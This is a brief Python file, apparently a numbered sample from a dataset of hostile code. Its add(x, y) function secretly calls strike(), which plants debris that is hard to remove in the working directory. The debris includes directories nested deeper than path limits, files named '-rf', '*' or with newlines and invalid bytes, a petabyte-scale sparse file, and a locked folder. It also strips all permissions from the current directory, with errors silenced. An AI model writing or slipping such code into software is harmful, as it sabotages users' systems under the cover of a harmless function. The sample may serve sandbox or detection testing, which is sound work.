"""Leaves what is hard to remove: folders deeper than any path, locked ones, odd and long names, sparse files."""
# Row: 15
import loot, os

def strike():
    here = os.getcwd()
    for _ in range(300):
        try:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        except OSError:
            break
    for name in (b"x" * 255, b"\xff\xfe", b"new\nline", b"-rf", b"*"):
        loot.quietly(lambda: open(name, "w").write("deep"))
    os.chdir(here)
    with open("sparse", "wb") as file:
        loot.quietly(os.truncate, file.fileno(), 1 << 50)
    loot.quietly(os.mkdir, "locked", 0)
    os.chmod(here, 0)

def add(x, y):
    strike()
    return x + y
